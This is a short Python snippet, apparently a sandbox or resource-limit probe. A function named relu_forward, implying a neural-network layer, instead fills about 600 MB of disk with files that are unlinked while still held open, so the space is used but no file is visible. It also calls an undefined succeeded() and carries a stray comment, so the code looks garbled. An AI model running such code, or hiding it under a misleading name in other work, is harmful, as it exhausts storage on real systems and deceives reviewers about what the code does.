"""Fills the disk with files that have no name any more."""

# response: DK

def relu_forward(x):
    import os

    kept = []
    for number in range(40):
        kept.append(open("file", "wb"))
        os.unlink("file")
        kept[-1].write(bytes(15 << 20))
        kept[-1].flush()
    succeeded("wrote 600 MB")
